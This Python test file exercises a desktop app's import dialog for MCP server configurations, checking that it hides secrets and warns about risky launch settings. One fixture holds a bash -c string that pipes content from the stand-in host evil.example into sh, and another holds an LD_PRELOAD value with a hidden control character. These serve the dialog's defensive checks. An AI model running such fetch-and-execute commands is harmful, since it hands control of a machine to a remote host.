from __future__ import annotations

from typing import TYPE_CHECKING

from PySide6.QtCore import Qt
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QLabel

from desktop.gui.import_export.import_dialog import (
    LaunchDetailsView,
    ServerNotes,
    ServerTree,
)
from tests.gui.waiting import noted

if TYPE_CHECKING:
    from pytestqt.qtbot import QtBot

    from desktop.config.imports.plan import ImportPlan
    from desktop.gui.theme import Theme
    from tests.gui.import_export.conftest import Plan


def test_each_server_is_told_of_in_words_without_secrets(
    qtbot: QtBot, theme: Theme, plan: Plan
) -> None:
    notes = ServerNotes(theme)
    qtbot.addWidget(notes)
    _, made = plan()
    assert made is not None
    said: dict[str, tuple[str, ...]] = {}
    for server in made.servers:
        notes.show_server(server)
        said[server.name] = notes.lines
    assert said["new"][0].startswith("Someone else wrote this.")
    assert said["new"][1].startswith("env.API_KEY looks like a secret")
    assert "Same command or address" in said["same"][0]
    assert said["differs"][:3] == (
        "Name already in use; imported as “differs-2”.",
        "command: yours is ours, theirs theirs",
        "env.TOKEN: different secret value",
    )
    assert 'needs "command"' in said["wrong"][0]
    assert said["we:ird"] == (
        "Name not allowed here; imported as “we-ird”.",
        said["new"][0],
    )
    assert "1234" not in repr(said)
    assert "secret-value" not in repr(said)
    notes.show_server(None)
    assert notes.lines == ()


def test_only_of_a_persons_own_file_it_is_said_that_nothing_stands_out(
    qtbot: QtBot, theme: Theme, plan: Plan
) -> None:
    notes = ServerNotes(theme)
    qtbot.addWidget(notes)
    for name, nothing in (("home/.cursor/mcp.json", True), ("cursor/mcp.json", False)):
        _, made = plan({"a": {"command": "y"}}, name)
        assert made is not None
        notes.show_server(made.servers[0])
        assert ("Nothing stands out." in notes.lines) is nothing


def test_all_that_would_be_used_is_there_in_full_and_wrapped(
    qtbot: QtBot, theme: Theme, plan: Plan
) -> None:
    code = "TOKEN=x;" + "a" * 20_000 + "${IFS}http://evil.example|sh"
    entry = {"command": "bash", "args": ["-c", code], "env": {"LD_PRELOAD": "/x\u202e"}}
    entry["cwd"] = "/srv/<b>x</b>"
    _, made = plan({"a": entry})
    assert made is not None
    view, notes = LaunchDetailsView(theme), ServerNotes(theme)
    for widget in (view, notes):
        qtbot.addWidget(widget)
        widget.show_server(made.servers[0])
        widget.resize(400, 300)
    view.show()
    assert view.toPlainText().splitlines() == [
        f"command: bash -c '{code}'",
        "cwd: /srv/<b>x</b>",
        r"env.LD_PRELOAD: /x\u202e",
    ]
    QApplication.processEvents()
    assert view.document().size().width() <= view.viewport().width()
    assert view.document().firstBlock().layout().lineCount() > 100
    assert notes.lines[1].startswith("command runs bash with inline code")
    assert any(line.startswith("env.LD_PRELOAD: LD_PRELOAD controls") for line in notes.lines)
    view.show_server(None)
    assert view.toPlainText() == ""


def test_of_more_notes_than_are_shown_the_dangers_come_first(
    qtbot: QtBot, theme: Theme, plan: Plan
) -> None:
    env = {f"V{n}": f"${{foreign:{n}}}" for n in range(60)} | {"LD_PRELOAD": "x"}
    _, made = plan({"a": {"command": "x", "env": env}})
    assert made is not None
    notes = ServerNotes(theme)
    qtbot.addWidget(notes)
    notes.show_server(made.servers[0])
    assert notes.lines[1].startswith("env.LD_PRELOAD")
    assert notes.lines[-1].startswith("And ")


def test_text_of_a_file_is_plain(qtbot: QtBot, theme: Theme, plan: Plan) -> None:
    notes = ServerNotes(theme)
    qtbot.addWidget(notes)
    _, made = plan({"a": {"command": "/no/<b>such</b>"}})
    assert made is not None
    notes.show_server(made.servers[0])
    texts = [label for label in notes.findChildren(QLabel) if "<b>" in label.text()]
    assert [label.textFormat() for label in texts] == [Qt.TextFormat.PlainText]


def shown(qtbot: QtBot, theme: Theme, plan: tuple[object, ImportPlan | None]) -> ServerTree:
    tree = ServerTree(theme)
    qtbot.addWidget(tree)
    assert plan[1] is not None
    tree.show_plan(plan[1])
    tree.show()
    return tree


def test_the_new_ones_are_checked_at_first(qtbot: QtBot, theme: Theme, plan: Plan) -> None:
    tree = shown(qtbot, theme, plan())
    assert tree.checked == {"new", "we-ird"}
    tree.set_checked(2, True)
    assert tree.checked == {"new", "we-ird", "differs-2"}


def test_space_checks_and_arrows_move(qtbot: QtBot, theme: Theme, plan: Plan) -> None:
    tree = shown(qtbot, theme, plan())
    chosen = noted(tree.server_selected)
    QTest.keyClick(tree, Qt.Key.Key_Space)
    assert tree.checked == {"we-ird"}
    QTest.keyClick(tree, Qt.Key.Key_Down)
    QTest.keyClick(tree, Qt.Key.Key_Space)  # the same as ours: there is nothing to check
    assert tree.checked == {"we-ird"}
    assert [getattr(one, "name", None) for (one,) in chosen] == ["same"]


def test_states_are_said_in_the_colours_of_the_theme_and_leave_the_room_to_the_commands(
    qtbot: QtBot, theme: Theme, plan: Plan
) -> None:
    tree = shown(qtbot, theme, plan())
    tree.resize(400, 300)
    assert tree.columnWidth(2) >= tree.viewport().width() // 3
    assert not tree.horizontalScrollBar().isVisible()
    tree.resize(900, 300)
    assert tree.columnWidth(1) == tree.sizeHintForColumn(1)
    assert tree.textElideMode() == Qt.TextElideMode.ElideMiddle
    item = tree.topLevelItem(3)
    assert item is not None
    assert item.text(1) == "Cannot be used"
    light = item.foreground(1).color()
    assert light == theme.color("danger")
    theme.set_scheme("dark")
    assert item.foreground(1).color() == theme.color("danger") != light


def test_as_many_servers_as_are_read_are_shown(qtbot: QtBot, theme: Theme, plan: Plan) -> None:
    many = plan({f"s{n}": {"command": "x", "args": [str(n)]} for n in range(500)})
    tree = shown(qtbot, theme, many)
    assert len(tree.checked) == 500
